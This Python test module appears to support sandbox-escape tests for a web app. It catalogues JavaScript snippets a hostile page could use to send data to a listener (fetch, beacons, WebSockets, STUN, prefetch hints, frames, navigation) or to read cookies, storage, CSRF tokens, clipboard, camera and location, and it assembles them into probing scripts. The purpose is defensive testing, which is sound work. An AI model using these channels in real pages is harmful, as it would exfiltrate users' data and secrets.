"""What a hostile page tries, in order to send something out or to read what is not its own.

`LOADS` are channels that can be tried one after another in one page; `LEAVES` lead the frame away,
so each has a page of its own. `u` is the listener's address with the channel's name; `put` writes
into the page. `READS` say what they got, or nothing.
"""

_STUN = (
    "const p = new RTCPeerConnection({iceServers: [{urls: u.replace('http://', 'stun:').replace("
    "'/stun', '')}]}); p.createDataChannel('x');"
    "p.createOffer().then((o) => p.setLocalDescription(o))"
)
LOADS: dict[str, str] = {
    "fetch": "fetch(u, {mode: 'no-cors'}).catch(() => 0)",
    "keepalive": "fetch(u, {mode: 'no-cors', keepalive: true}).catch(() => 0)",
    "xhr": "const x = new XMLHttpRequest(); x.open('GET', u); x.send()",
    "beacon": "navigator.sendBeacon(u, 'x')",
    "websocket": "new WebSocket(u.replace('http', 'ws'))",
    "eventsource": "new EventSource(u)",
    "image": "new Image().src = u",
    "image-set": "put(`<img srcset='${u} 1x'>`)",
    "css": "put(`<div style='background: url(${u})'>x</div>`)",
    "css-import": "put(`<style>@import url(${u});</style>`)",
    "font": "put(`<style>@font-face { font-family: leak; src: url(${u}) }</style>"
    "<p style='font-family: leak'>x</p>`)",
    "stylesheet": "put(`<link rel='stylesheet' href='${u}'>`)",
    "prefetch": "put(`<link rel='prefetch' href='${u}'>`)",
    "preload": "put(`<link rel='preload' as='image' href='${u}'>`)",
    "modulepreload": "put(`<link rel='modulepreload' href='${u}'>`)",
    "preconnect": "put(`<link rel='preconnect' href='${u}'><link rel='dns-prefetch' href='${u}'>`)",
    "speculation": "const s = document.createElement('script'); s.type = 'speculationrules';"
    "s.textContent = JSON.stringify({prefetch: [{source: 'list', urls: [u]}]});"
    "document.body.append(s)",
    "script": "const s = document.createElement('script'); s.src = u; document.body.append(s)",
    "import": "import(u).catch(() => 0)",
    "worker": "new Worker(URL.createObjectURL(new Blob([`importScripts('${u}')`])))",
    "shared-worker": "new SharedWorker(URL.createObjectURL(new Blob([`importScripts('${u}')`])))",
    "service-worker": "navigator.serviceWorker.register(u).catch(() => 0)",
    "worklet": "CSS.paintWorklet.addModule(u).catch(() => 0)",
    "iframe": "put(`<iframe src='${u}'></iframe>`)",
    "srcdoc": "put(`<iframe srcdoc=\"<img src='${u}'>\"></iframe>`)",
    "data-frame": "put(`<iframe src=\"data:text/html,<img src='${u}'>\"></iframe>`)",
    "object": "put(`<object data='${u}'></object>`)",
    "embed": "put(`<embed src='${u}'>`)",
    "video": "put(`<video src='${u}' autoplay muted></video>`)",
    "poster": "put(`<video poster='${u}'></video>`)",
    "audio": "put(`<audio src='${u}' autoplay></audio>`)",
    "input-image": "put(`<input type='image' alt='x' src='${u}'>`)",
    "svg-image": "put(`<svg><image href='${u}'/></svg>`)",
    "svg-use": "put(`<svg><use href='${u}#x'/></svg>`)",
    "svg-filter": "put(`<p style='filter: url(${u}#x)'>x</p>`)",
    "cursor": "put(`<p style='cursor: url(${u}), auto'>x</p>`)",
    "popup": "window.open(u)",
    "named-popup": "put(`<a id='new' target='_blank' href='${u}'>x</a>`);"
    "document.getElementById('new').click()",
    "top": "top.location = u",
    "parent": "parent.location = u",
    "target-top": "put(`<a id='up' target='_top' href='${u}'>x</a>`);"
    "document.getElementById('up').click()",
    "target-parent": "put(`<a id='out' target='_parent' href='${u}'>x</a>`);"
    "document.getElementById('out').click()",
    "stun": _STUN,
}
# Those that the sandbox attribute stops by itself, or that ask no address of a listener.
HELD_BY_SANDBOX = {
    *("shared-worker", "service-worker", "worklet", "svg-use", "speculation"),
    *("popup", "named-popup", "top", "parent", "target-top", "target-parent", "preconnect"),
    *("worker", "cursor", "data-frame", "svg-filter"),
}
LEAVES: dict[str, str] = {
    "ping": "put(`<a id='ping' href='#x' ping='${u}'>x</a>`);"
    "document.getElementById('ping').click()",
    "download": "put(`<a id='file' download href='${u}'>x</a>`);"
    "document.getElementById('file').click()",
    "location": "location.href = u",
    "replace": "location.replace(u)",
    "assign-self": "self.location = u",
    "refresh": "put(`<meta http-equiv='refresh' content='0; url=${u}'>`)",
    "link": "put(`<a id='go' href='${u}'>x</a>`); document.getElementById('go').click()",
    "form": "const f = document.createElement('form'); f.action = u; f.method = 'post';"
    "document.body.append(f); HTMLFormElement.prototype.submit.call(f)",
    "open-self": "window.open(u, '_self')",
}
# From a frame in the frame, whose constructor is a fresh one. In a closed shadow, where nobody who
# looks for frames sees it, Chromium ends the whole page, and the driver of these tests with it.
_NESTED = (
    "const i = document.createElement('iframe');"
    f"i.srcdoc = `<script>((u) => {{ {_STUN} }})('${{u}}')<\\/script>`;"
)
NESTED_STUN = f"{_NESTED} document.body.append(i)"
READS: dict[str, str] = {
    "cookie": "document.cookie",
    "local": "localStorage.length",
    "session": "sessionStorage.length",
    "database": "await new Promise((good, bad) => { const r = indexedDB.open('ouvrage-drafts');"
    "r.onsuccess = () => good('opened'); r.onerror = () => bad(0); })",
    "caches": "(await caches.keys()).length",
    "parent": "parent.document.title",
    "top": "top.document.title",
    "address": "top.location.href",
    "token": "top.document.querySelector('[name=csrfmiddlewaretoken]').value",
    "microphone": "(await navigator.mediaDevices.getUserMedia({audio: true})).id",
    "camera": "(await navigator.mediaDevices.getUserMedia({video: true})).id",
    "place": "await new Promise((good, bad) =>navigator.geolocation.getCurrentPosition(good, bad))",
    "clipboard": "await navigator.clipboard.readText()",
    "notices": "if ((await Notification.requestPermission()) !== 'granted') throw 0; 'granted'",
}


def loading(attacks: dict[str, str], listener: str) -> str:
    """A script that tries each, whatever becomes of the others, and says when it is through."""
    tried = "".join(
        f"try {{ ((u) => {{ {code} }})('{listener}/{name}'); }} catch {{}}\n"
        for name, code in attacks.items()
    )
    return (
        "const put = (html) => document.body.insertAdjacentHTML('beforeend', html);\n"
        f"{tried}put('<p id=\"through\">through</p>');"
    )


def reading() -> str:
    """A script that tries to read each, and shows the names of those that it could."""
    tried = "".join(
        f"try {{ await (async () => {{ {_returned(code)} }})(); got.push('{name}'); }} catch {{}}\n"
        for name, code in READS.items()
    )
    return (
        f"(async () => {{ const got = [];\n{tried}document.body.insertAdjacentHTML('beforeend',"
        "`<p id=\"through\">read: ${got.join(' ')}</p>`); })();"
    )


def _returned(code: str) -> str:
    return code if code.startswith("if ") else f"return {code};"
